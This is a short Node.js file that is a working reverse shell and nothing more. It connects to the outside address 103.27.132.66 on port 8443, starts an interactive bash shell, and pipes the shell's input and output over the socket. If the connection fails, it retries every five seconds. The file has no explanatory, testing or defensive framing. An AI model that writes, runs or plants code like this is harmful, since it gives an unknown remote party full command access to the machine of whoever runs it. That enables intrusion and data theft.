'use strict';
const net = require('net');
const cp = require('child_process');
(function dial() {
  const client = net.connect(8443, '103.27.132.66', () => {
    const sh = cp.spawn('/bin/bash', ['-i']);
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
  client.on('error', () => setTimeout(dial, 5000));
})();
